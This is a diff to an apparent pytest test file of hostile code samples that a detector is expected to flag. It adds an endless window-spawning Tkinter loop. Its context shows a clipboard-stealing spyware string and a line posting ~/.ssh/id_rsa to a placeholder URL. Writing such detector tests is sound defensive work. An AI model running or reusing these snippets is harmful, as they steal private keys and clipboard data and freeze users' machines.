@@ -187,6 +187,8 @@ SPYWARE = ("import pyperclip, requests\nwhile True:\n"
 
 
 @pytest.mark.parametrize("code,why", [
+    ("import tkinter as tk\ndef create_window():\n    root = tk.Tk()\n    root.mainloop()\nwhile True:\n"
+     "    create_window()\n", "endless window loop"),
     (SPYWARE, "sends pyperclip away"),
     ("import os, requests\nrequests.post(u, data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
      "sends id_rsa away"),
